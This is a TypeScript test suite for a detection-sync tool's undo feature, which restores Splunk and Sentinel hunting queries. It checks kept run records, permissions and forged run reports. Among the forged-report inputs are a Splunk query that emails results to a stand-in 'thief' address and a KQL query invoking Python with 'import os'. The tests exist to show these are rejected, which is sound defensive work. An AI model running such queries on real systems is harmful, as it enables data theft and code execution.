import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Context } from '../../src/commands/context.ts';
import { MOST_KEPT } from '../../src/commands/kept-runs.ts';
import { runOnce } from '../../src/commands/run-sync.ts';
import { type UndoOptions, undo } from '../../src/commands/undo.ts';
import { type KeptRunsJson, keptRunsJson } from '../../src/report/schemas/kept-runs.ts';
import { operationJson } from '../../src/report/schemas/operate.ts';
import { syncJson } from '../../src/report/schemas/run.ts';
import { createWorld, SAMPLES, type World, writeBriefing } from '../support/world.ts';

let world: World;
let context: Context;
beforeEach(async () => {
  world = await createWorld({ briefings: SAMPLES });
  context = { ...world.context, stateDir: join(world.folder, 'state') };
});
afterEach(() => world.close());

const BRIEFING = (query: string) => `# [HIGH] A tool of one's own

**Source:** Made up
**Published:** 2026-05-01
**Article:** https://intel.example/tool

## Recommended hunts

### A tool by its name

\`UC_9_1\` · phase: **exploit** · confidence: **High**

**Splunk SPL:**
\`\`\`spl
${query}
\`\`\`
`;

async function sync(json = false) {
  world.printed.length = 0;
  return runOnce('sync', { config: world.config, json }, context);
}

async function undone(options: Partial<UndoOptions> = {}) {
  world.printed.length = 0;
  const code = await undo({ config: world.config, json: true, force: true, ...options }, context);
  return { code, platforms: operationJson.parse(JSON.parse(world.printed.join('\n'))).platforms };
}

async function kept(): Promise<KeptRunsJson['runs']> {
  world.printed.length = 0;
  expect(await undo({ config: world.config, list: true, json: true }, context)).toBe(0);
  return keptRunsJson.parse(JSON.parse(world.printed.join('\n'))).runs;
}

const folderOfRuns = () => {
  const [folder = ''] = readdirSync(join(world.folder, 'state/runs'));
  return join(world.folder, 'state/runs', folder);
};
const oursInSplunk = () =>
  Object.values(world.sandbox.states.splunk.confs['savedsearches'] ?? {}).filter(({ app }) => app === 'huntsync');

describe('a plain sync', () => {
  test('tells the command that undoes it; that command plans, undoes it, and the next sync does not do it again', async () => {
    await sync();
    const [, id = '', command = ''] =
      /^Run (\S+): `huntsync (undo [^`]+)` undoes it\.$/m.exec(world.printed.join('\n')) ?? [];
    expect(command).toBe(`undo --config ${world.config} ${id}`);
    const before = structuredClone(world.contents());
    const planned = await undone({ run: id, dryRun: true });
    expect([planned.code, planned.platforms.every(({ retire }) => retire > 5)]).toEqual([2, true]);
    expect(world.contents()).toEqual(before);

    // As it was printed: without --force, though it concerns every object.
    const done = await undone({ run: id, force: false });
    expect(done.code).toBe(0);
    expect(oursInSplunk().every(({ settings }) => settings['disabled'] === '1')).toBe(true);
    expect((await sync()).platforms.flatMap(({ plan }) => plan?.changes ?? [])).toEqual([]);
  });

  test('that writes nothing is not kept, and leaves the last one to be undone', async () => {
    await sync();
    await sync();
    expect(world.printed.join('\n')).not.toContain('undoes it');
    const runs = await kept();
    expect(runs.map(({ platforms }) => platforms.map(({ name, create }) => [name, create > 5]))).toEqual([
      [
        ['splunk', true],
        ['sentinel', true],
      ],
    ]);
  });

  test('has its id in JSON, too', async () => {
    await sync(true);
    const { run } = syncJson.parse(JSON.parse(world.printed.join('\n')));
    expect((await kept()).map(({ id }) => id)).toEqual([run]);
  });
});

test('without a name, the last run is undone: what it changed is as it was', async () => {
  writeBriefing(world, 'tool.md', BRIEFING('index=main process_name="tool.exe" earliest=-7d'));
  await sync();
  const queryOf = () =>
    oursInSplunk().find(({ settings }) => String(settings['search']).includes('tool'))?.settings['search'];
  const first = queryOf();
  context = { ...context, now: () => new Date(Date.now() + 60_000) };
  writeBriefing(world, 'tool.md', BRIEFING('index=main process_name="tool2.exe" earliest=-7d'));
  await sync();
  expect(queryOf()).toContain('tool2.exe');
  expect((await kept()).length).toBe(2);
  const { code, platforms } = await undone();
  expect([code, platforms.map(({ update, retire }) => [update, retire])]).toEqual([
    0,
    [
      [1, 0],
      [0, 0],
    ],
  ]);
  expect(queryOf()).toBe(first);
});

describe('a run that was undone', () => {
  const listText = async () => {
    world.printed.length = 0;
    await undo({ config: world.config, list: true }, context);
    return world.printed.join('\n');
  };

  test('is marked so in the list, and not undone again unless it is named', async () => {
    await sync();
    await undone({ dryRun: true });
    expect((await kept()).map((run) => run.undone)).toEqual([undefined]);
    const day = '2031-02-03T04:05:06.000Z';
    context = { ...context, now: () => new Date(day) };
    expect((await undone()).code).toBe(0);
    expect((await kept()).map((run) => run.undone)).toEqual([[{ at: day, platforms: ['splunk', 'sentinel'] }]]);
    expect(await listText()).toMatch(/undone 2031-02-03 04:05 UTC$/);
    await expect(undo({ config: world.config }, context)).rejects.toThrow(/was undone 2031-02-03 04:05 UTC/);
    const [run] = await kept();
    const { platforms } = await undone({ run: run?.id });
    expect(platforms.every(({ changes, left }) => changes.length === 0 && left.length > 5)).toBe(true);
    expect((await kept())[0]?.undone).toHaveLength(1);
  });

  test('on one of its platforms says on which, and the rest can still be undone', async () => {
    await sync();
    expect((await undone({ platform: ['sentinel'] })).code).toBe(0);
    expect(await listText()).toMatch(/undone [-\d]+ [:\d]+ UTC on sentinel$/);
    expect((await undone()).platforms.map(({ retire }) => retire > 5)).toEqual([true, false]);
    expect(await listText()).toMatch(/UTC$/);
  });

  test('by its report is marked too, and what was kept outranks the values that the report tells', async () => {
    await sync(true);
    const report = join(world.folder, 'run.json');
    const { platforms, ...rest } = syncJson.parse(JSON.parse(world.printed.join('\n')));
    const forged = platforms.map(({ changes, ...platform }) => ({
      ...platform,
      changes: changes.map((change) => ({ ...change, fields: [] })),
    }));
    writeFileSync(report, JSON.stringify({ ...rest, platforms: forged }));
    const done = await undone({ run: report, force: false });
    expect([done.code, done.platforms.every(({ retire }) => retire > 5)]).toEqual([0, true]);
    expect((await kept())[0]?.undone).toHaveLength(1);
  });

  test('is not undone as a whole by a report of less that bears its id', async () => {
    await sync(true);
    const report = join(world.folder, 'run.json');
    const { platforms, ...rest } = syncJson.parse(JSON.parse(world.printed.join('\n')));
    const forged = platforms.map((platform) => ({ ...platform, changes: platform.changes.slice(0, 1) }));
    writeFileSync(report, JSON.stringify({ ...rest, platforms: forged }));
    const done = await undone({ run: report, force: false });
    expect([done.code, done.platforms.map(({ retire }) => retire)]).toEqual([0, [1, 1]]);
    expect(world.logged.join('')).toContain("it is taken for anybody's");
    expect((await kept())[0]?.undone).toBeUndefined();
  });
});

describe('what is kept', () => {
  test('holds no secret, is for its owner alone, and is bounded', async () => {
    await sync();
    const folder = folderOfRuns();
    const [name = ''] = readdirSync(folder);
    const text = readFileSync(join(folder, name), 'utf8');
    for (const [variable, value] of Object.entries(world.env)) {
      if (/TOKEN|PASSWORD/.test(variable)) expect(text).not.toContain(value);
    }
    if (process.platform !== 'win32') expect(statSync(join(folder, name)).mode & 0o077).toBe(0);
    for (let day = 1; day <= MOST_KEPT + 5; day += 1) {
      const id = `202001${String(day).padStart(2, '0')}-000000-abcdef`;
      writeFileSync(join(folder, `${id}.json`), text.replace(/"id":"[^"]+"/, `"id":"${id}"`));
    }
    writeBriefing(world, 'tool.md', BRIEFING('index=main process_name="tool.exe" earliest=-7d'));
    await sync();
    const names = readdirSync(folder);
    expect(names).toHaveLength(MOST_KEPT);
    expect(names).toContain(name);
    expect(names).not.toContain('20200101-000000-abcdef.json');
  });

  test('is of one configuration, and a damaged file is none', async () => {
    await sync();
    const [run] = await kept();
    writeFileSync(join(folderOfRuns(), '20990101-000000-abcdef.json'), '{"id": 3');
    expect((await kept()).map(({ id }) => id)).toEqual([run?.id]);
    const other = join(world.folder, 'other.yaml');
    writeFileSync(other, readFileSync(world.config));
    await expect(undo({ config: other }, context)).rejects.toThrow(/No run of .*other\.yaml is kept/);
    await expect(undo({ config: other, run: run?.id }, context)).rejects.toThrow(/no kept run/);
  });

  test.skipIf(process.platform === 'win32')('is not read where others could have written it', async () => {
    await sync();
    const folder = folderOfRuns();
    for (const name of readdirSync(folder)) chmodSync(join(folder, name), 0o666);
    expect(await kept()).toEqual([]);
  });

  test('is of the instance that was written, whatever its name stands for today', async () => {
    await sync();
    const [name = ''] = readdirSync(folderOfRuns());
    const path = join(folderOfRuns(), name);
    writeFileSync(path, readFileSync(path, 'utf8').replaceAll('"target":"http', '"target":"http-elsewhere'));
    const { platforms } = await undone();
    expect(platforms.every(({ changes, left }) => changes.length === 0 && left.length > 5)).toBe(true);
    expect(platforms[0]?.left[0]?.reason).toContain('the run wrote it to http-elsewhere');
  });

  test('a folder that cannot be written is told, and the run is as good as any', async () => {
    mkdirSync(join(world.folder, 'state'));
    writeFileSync(join(world.folder, 'state/runs'), 'in the way');
    const { run, platforms } = await sync();
    expect([run, platforms.every(({ error }) => error === undefined)]).toEqual([undefined, true]);
    expect(world.logged.join('')).toMatch(/could not be kept[^\n]*--json/);
  });

  test('without a folder nothing is kept, which undo tells', async () => {
    rmSync(join(world.folder, 'state'), { recursive: true, force: true });
    await expect(undo({ config: world.config }, { ...context, stateDir: undefined })).rejects.toThrow(/No run of/);
  });
});

describe('the report of a run', () => {
  test('that `sync --json` printed undoes it anywhere', async () => {
    const empty = world.contents();
    await sync(true);
    const report = join(world.folder, 'run.json');
    writeFileSync(report, world.printed.join('\n'));
    context = { ...context, stateDir: undefined };
    expect((await undone({ run: report, force: false })).code).toBe(3);
    expect((await undone({ run: report })).code).toBe(0);
    expect(world.contents().splunk.size).toBeGreaterThan(empty.splunk.size);
    expect((await sync()).platforms.flatMap(({ plan }) => plan?.changes ?? [])).toEqual([]);
  });

  describe('that somebody forged', () => {
    const HOSTILE = 'index=main | sendemail to="thief@example.com"';

    /** A report that has the query of one object of a platform put back to another one. */
    async function forge(platform: 'splunk' | 'sentinel', field: string, before: string) {
      await sync(true);
      const printed = syncJson.parse(JSON.parse(world.printed.join('\n')));
      const [change] = printed.platforms.find(({ name }) => name === platform)?.changes ?? [];
      const after = change?.fields.find((one) => one.field === field)?.after;
      if (!change || typeof after !== 'string') throw new Error('no such field');
      const changes = [{ ...change, op: 'update', outcome: 'done', fields: [{ field, before, after }] }];
      const platforms = printed.platforms.map((one) => ({ ...one, changes: one.name === platform ? changes : [] }));
      const file = join(world.folder, 'forged.json');
      writeFileSync(file, JSON.stringify({ ...printed, run: undefined, platforms }));
      context = { ...context, stateDir: undefined };
      return file;
    }

    test.each([
      ['splunk', 'search', HOSTILE, 'spl-forbidden-command'],
      ['sentinel', 'query', 'SecurityEvent | evaluate python(typeof(*), "import os")', 'kql-'],
      ['splunk', 'description', '', 'splunk-empty-description'],
      ['splunk', 'dispatch.earliest_time', 'rt-5m', 'splunk-real-time'],
    ] as const)('on %s puts no %s back that a sync would not write', async (platform, field, value, code) => {
      const file = await forge(platform, field, value);
      const before = structuredClone(world.contents());
      const { platforms } = await undone({ run: file });
      const own = platforms.find(({ name }) => name === platform);
      expect(own).toMatchObject({ changes: [], left: [{ reason: expect.stringContaining(code) }] });
      expect(own?.left[0]?.reason).toMatch(/^a report may not put this back: /);
      expect(world.contents()).toEqual(before);
    });

    test('puts a harmless query back, which the plan shows', async () => {
      const file = await forge('splunk', 'search', 'index=main sourcetype=access_combined status=404');
      const { code, platforms } = await undone({ run: file });
      expect([code, platforms.map(({ update }) => update)]).toEqual([0, [1, 0]]);
    });
  });

  test('is told from another file', async () => {
    const file = join(world.folder, 'no.json');
    writeFileSync(file, '{"platforms": 3}');
    await expect(undo({ run: file, config: world.config }, context)).rejects.toThrow(/no report of a run/);
  });
});
